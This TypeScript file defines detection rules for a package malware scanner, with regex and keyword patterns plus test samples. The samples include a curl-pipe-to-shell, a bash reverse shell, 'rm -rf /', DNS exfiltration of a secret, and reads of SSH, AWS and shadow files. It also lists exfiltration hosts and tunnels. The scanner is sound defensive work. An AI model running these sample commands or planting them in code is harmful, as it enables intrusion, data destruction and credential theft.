/** What malware scans look for in the text of code, whatever the code does with it. */
export interface TextRule {
	name: string;
	/** As it would stand in a malicious package; each is planted by a test. */
	samples: string[];
	finds: (text: string) => boolean;
}

const holds =
	(...parts: string[]) =>
	(text: string) =>
		parts.some((part) => text.toLowerCase().includes(part));

const matches =
	(...patterns: RegExp[]) =>
	(text: string) =>
		patterns.some((pattern) => pattern.test(text));

const hosts = (name: string, ...names: string[]): TextRule => ({
	name,
	samples: names.map((host) => `const host = "${host}";`),
	finds: holds(...names),
});

const IP_ADDRESS = /https?:\/\/(?:\d{1,3}\.){3}\d{1,3}/g;
const OWN_NETWORK = /\/\/(?:0|10|127|169\.254|192\.168|172\.(?:1[6-9]|2\d|3[01]))\./;

const isPublicAddress = (text: string) =>
	(text.match(IP_ADDRESS) ?? []).some((address) => !OWN_NETWORK.test(address));

/** Written by what GuardDog's rules of 2026-06 look for (github.com/DataDog/guarddog), not copied. */
export const TEXT_RULES: TextRule[] = [
	hosts(
		'a messenger that takes data from anyone',
		'api.telegram.org',
		'discord.com/api/webhooks',
		'discordapp.com/api/webhooks',
		'hooks.slack.com/services',
	),
	hosts(
		'a paste or file-drop service',
		...['pastebin.com', 'hastebin.com', 'ghostbin.site', 'paste.ee', 'rentry.co', 'transfer.sh'],
		...['filetransfer.io', 'sendspace.com', 'backblazeb2.com', 'catbox.moe', 'termbin.com'],
	),
	hosts(
		'a service that collects requests, or a tunnel',
		...['webhook.site', 'webhook.cool', 'webhook-test.com', 'typedwebhook.tools', 'pipedream.net'],
		...['beeceptor.com', 'oastify.com', 'burpcollaborator.net', 'burpcollaborator.me', 'dnslog.cn'],
		...['oast.pro', 'oast.live', 'oast.site', 'oast.online', 'oast.fun', 'oast.me', 'ply.gg'],
		...['ngrok.io', 'ngrok-free.app', 'ngrok-free.dev', 'trycloudflare.com', 'localhost.run'],
		'appdomain.cloud',
	),
	hosts(
		'a service that tells the own IP address',
		...['ipinfo.io', 'checkip.dyndns.org', 'jsonip.com', 'ipify.org', 'ifconfig.me', '//ip.me'],
	),
	hosts('a short link', 'bit.ly'),
	{
		name: 'a token or a send call of a messenger',
		samples: [
			'const token = "1234567890:AAabcdefghijklmnopqrstuvwxyz0123456";',
			'telegram.sendDocument(chat, secrets);',
			'telegramBot.sendMessage(chat, secrets);',
		],
		finds: matches(/\b\d{8,12}:[\w-]{30,40}\b/, /telegram.*send(message|document)/i),
	},
	{
		name: 'a host under a domain that is mostly abused',
		samples: ['post("https://updates.example.xyz/in");', 'get("http://a.b.top:8080/");'],
		finds: matches(
			/https?:\/\/[^\s/"'`]+\.(xyz|tk|ml|ga|cf|gq|pw|top|club|bid|icu|zip|stream|link|quest)(?![\w.-])/i,
		),
	},
	{
		name: 'a public IP address',
		samples: ['post("http://45.12.9.8/in");', 'post("https://172.15.0.1/in");'],
		finds: isPublicAddress,
	},
	{
		name: 'code behind escapes or character codes',
		samples: [
			`run("${'\\x61'.repeat(30)}");`,
			`run("${'\\u0061'.repeat(20)}");`,
			`String.fromCharCode(${'104, '.repeat(20)}33);`,
			'[![]]; [!![]];',
		],
		finds: matches(
			/(?:\\x[\da-f]{2}|\\u[\da-f]{4}){11,}/i,
			/fromCharCode\s*\([^)]{40,}\)/,
			/\[\s*!\s*!?\s*\[\s*\]\s*\]/,
		),
	},
	{
		name: 'a long blob in base64',
		samples: [`const payload = "${'QUJD'.repeat(40)}==";`, `const p = '${'ab+/'.repeat(38)}';`],
		finds: matches(/["'`][A-Za-z\d+/]{150,}={0,2}["'`]/),
	},
	{
		name: 'names as obfuscators make them',
		samples: ['var _0x4f2a = 1;', 'function _0xabc123() {}'],
		finds: matches(/_0x[\da-f]{4,6}\b/i),
	},
	{
		name: 'code moved out of sight by white space',
		samples: [`const a = 1;${' '.repeat(400)}steal();`],
		finds: matches(/[ \t]{200,}\S/),
	},
	{
		name: 'letters that only look Latin, or characters nobody sees, inside a word',
		samples: ['const p\u0430ypal = 1;', 'const k\u03B5y = 1;', 'const key = "to\u200Bken";'],
		finds: matches(
			/[a-z][\p{Script=Cyrillic}\p{Script=Greek}\u{1D400}-\u{1D7FF}]/iu,
			/[\p{Script=Cyrillic}\p{Script=Greek}\u{1D400}-\u{1D7FF}][a-z]/iu,
			/[a-z][\u200B-\u200D\u2060\uFEFF][a-z]/iu,
		),
	},
	{
		name: 'a shell or a download that is run',
		samples: [
			'run("curl https://example.com/a | sh");',
			'run("wget -qO- https://example.com/a | bash");',
			'run("/bin/sh", "-c");',
			'run("bash -i >& /dev/tcp/1.2.3.4/4444");',
			'run("powershell -enc AAAA");',
			'run("nslookup $SECRET.example.com");',
			'run("rm -rf / --no-preserve-root");',
		],
		finds: matches(
			/\b(?:curl|wget)\s[^\n]*\|\s*(?:ba)?sh\b/i,
			/\/bin\/(?:ba)?sh\b|\/dev\/(?:tcp|udp)\//,
			/\b(?:powershell|cmd\.exe|rundll32|regsvr32|mshta|nslookup|netcat)\b/i,
			/\brm\s+-rf?\s+[/~]/,
		),
	},
	{
		name: 'a file that holds secrets',
		samples: [
			...['/etc/passwd', '/etc/shadow', '~/.ssh/id_rsa', '.npmrc', '.pypirc', '.gitconfig'],
			...['.git-credentials', '.netrc', '.aws/credentials', '.git/config', '.mozilla/firefox'],
			'Google/Chrome/User Data',
		].map((path) => `read("${path}");`),
		finds: holds(
			...['/etc/passwd', '/etc/shadow', '.ssh/', '.npmrc', '.pypirc', '.gitconfig', '.netrc'],
			...['.git-credentials', '.aws/', '.git/config', '.mozilla/', 'chrome/user data'],
		),
	},
	{
		name: 'a crypto miner',
		samples: ['run("xmrig");', 'connect("stratum+tcp://pool.example.com");'],
		finds: holds('xmrig', 'stratum+', 'cryptonight', 'minexmr', 'nanopool'),
	},
	{
		name: 'a package that publishes itself or starts with the machine',
		samples: ['run("npm publish");', 'write("~/.bashrc");', 'write("~/.config/autostart/a");'],
		finds: holds('npm publish', 'yarn publish', '.bashrc', '.zshrc', 'autostart', 'crontab'),
	},
];
